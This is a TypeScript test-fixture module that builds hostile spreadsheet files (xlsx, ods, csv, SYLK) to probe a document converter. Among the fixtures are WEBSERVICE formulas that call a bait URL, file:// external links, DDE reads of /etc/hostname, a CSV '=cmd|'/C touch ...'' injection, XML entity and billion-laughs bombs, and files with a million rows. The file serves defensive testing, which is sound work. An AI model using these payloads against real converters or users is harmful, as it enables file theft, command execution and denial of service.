/** Workbooks with formulas, links, macros and millions of cells. */

import { readFile } from 'node:fs/promises';
import { fixture } from '@converter/fixtures';
import type { Bait } from '../kit/bait.ts';
import { OFFICE, relations, SHEET, XML, xlsx } from '../make/ooxml.ts';
import { openDocument } from '../make/opendocument.ts';
import { type HostileInput, input } from './input.ts';
import { entity, LAUGHS } from './xml.ts';

function* rows(count: number): Generator<string> {
  for (let row = 1; row <= count; row++) yield `<row r="${row}"><c r="A${row}"><v>1</v></c></row>`;
}

const formula = (row: number, text: string) =>
  `<row r="${row}"><c r="A${row}" t="str"><f>${text}</f><v>old</v></c></row>`;

const linkedSheet = (bait: Bait) =>
  xlsx(
    formula(1, `WEBSERVICE("${bait.url}/webservice")`) +
      formula(2, `WEBSERVICE("file://${bait.file('txt')}")`) +
      formula(3, '[1]s!A1') +
      formula(4, `'file://${bait.file('csv')}'#$s.A1`) +
      formula(5, `HYPERLINK("${bait.url}")`),
    [
      {
        name: 'xl/externalLinks/externalLink1.xml',
        content: `${XML}<externalLink xmlns="${SHEET}" xmlns:r="${OFFICE}"><externalBook r:id="e1"><sheetNames><sheetName val="s"/></sheetNames></externalBook></externalLink>`,
      },
      {
        name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
        content: relations([['e1', 'externalLinkPath', `file://${bait.file('csv')}`, 'External']]),
      },
    ],
    undefined,
    [['x1', 'externalLink', 'externalLinks/externalLink1.xml']],
    '<externalReferences><externalReference r:id="x1"/></externalReferences><calcPr fullCalcOnLoad="1"/>',
  );

const openCell = (code: string) =>
  `<table:table-row><table:table-cell table:formula="of:=${code}" office:value-type="string"><text:p>old</text:p></table:table-cell></table:table-row>`;

const linkedOpenSheet = (bait: Bait) => {
  const web = (url: string) => openCell(`WEBSERVICE(&quot;${url}&quot;)`);
  const cells =
    web(`${bait.url}/ods`) +
    web(`file://${bait.file('txt')}`) +
    openCell(`'file://${bait.file('csv')}'#$s.A1`) +
    openCell('DDE(&quot;soffice&quot;;&quot;/etc/hostname&quot;;&quot;A1&quot;)');
  const source = `<table:table-source xlink:type="simple" xlink:href="file://${bait.file('csv')}" table:filter-name="Text - txt - csv (StarCalc)" table:table-name="secret"/>`;
  return openDocument(
    'spreadsheet',
    `<office:body><office:spreadsheet><table:table table:name="s">${cells}</table:table><table:table table:name="t">${source}<table:table-row><table:table-cell/></table:table-row></table:table></office:spreadsheet></office:body>`,
  );
};

const contentOf = (path: string) => readFile(fixture(path));

export const sheets: readonly HostileInput[] = [
  input(
    'read',
    'an Excel workbook with links to files and addresses',
    'links.xlsx',
    ['xlsx', 'csv', 'pdf', 'ods'],
    linkedSheet,
  ),
  input(
    'read',
    'an Excel workbook with an entity that is a file',
    'entity.xlsx',
    ['xlsx', 'csv', 'pdf'],
    (bait) =>
      xlsx(
        '<row r="1"><c r="A1" t="s"><v>0</v></c></row>',
        [],
        `${XML}${entity(bait)}<sst xmlns="${SHEET}"><si><t>&x;&called;</t></si></sst>`,
      ),
  ),
  input(
    'exhaust',
    'an Excel workbook with a text of a thousand million words',
    'laughs.xlsx',
    ['xlsx', 'csv', 'pdf'],
    () =>
      xlsx(
        '<row r="1"><c r="A1" t="s"><v>0</v></c></row>',
        [],
        `${XML}${LAUGHS}<sst xmlns="${SHEET}"><si><t>&x;</t></si></sst>`,
      ),
  ),
  input(
    'exhaust',
    'an Excel workbook with a text of a gigabyte',
    'text.xlsx',
    ['xlsx', 'csv', 'json'],
    () => {
      const text = 'x'.repeat(128 * 1024 ** 2);
      return xlsx(
        '<row r="1"><c r="A1" t="s"><v>0</v></c></row>',
        [],
        `${XML}<sst xmlns="${SHEET}"><si><t>${text}</t></si><si><t>${text}</t></si></sst>`,
      );
    },
  ),
  input('exhaust', 'an Excel workbook with 1,048,576 rows', 'rows.xlsx', ['xlsx', 'csv', 'pdf'], () =>
    xlsx([...rows(1_048_576)].join('')),
  ),
  input(
    'exhaust',
    'an Excel workbook with a cell in its last place',
    'last.xlsx',
    ['xlsx', 'csv', 'pdf', 'html'],
    () => xlsx('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
  ),
  input(
    'exhaust',
    'an OpenDocument sheet with 1,048,576 rows of 16,384 cells',
    'rows.ods',
    ['ods', 'csv', 'xlsx', 'pdf'],
    () =>
      openDocument(
        'spreadsheet',
        '<office:body><office:spreadsheet><table:table table:name="s"><table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet></office:body>',
      ),
  ),
  input(
    'read',
    'an OpenDocument sheet with links to files and addresses',
    'links.ods',
    ['ods', 'csv', 'pdf', 'xlsx'],
    linkedOpenSheet,
  ),
  input('write', 'a sheet with a macro', 'macro.ods', ['ods', 'pdf', 'csv'], () =>
    contentOf('sheets/macro.ods'),
  ),
  input(
    'read',
    'a table whose cells are formulas',
    'formulas.csv',
    ['csv', 'ods', 'xlsx', 'pdf', 'html'],
    (bait) =>
      `name,word\n"=WEBSERVICE(""${bait.url}"")","='file://${bait.file('csv')}'#$secret.A1"\n"=cmd|'/C touch ${bait.target('csv')}'!A0","=DDE(""soffice"",""${bait.file('txt')}"",""A1"")"\n`,
  ),
  input(
    'read',
    'a SYLK sheet with formulas',
    'formulas.slk',
    ['slk', 'csv', 'pdf', 'ods'],
    (bait) =>
      `ID;P\nC;X1;Y1;EWEBSERVICE("${bait.url}")\nC;X1;Y2;E'file://${bait.file('csv')}'#$secret.A1\nC;X1;Y3;K"x"\nE\n`,
  ),
];
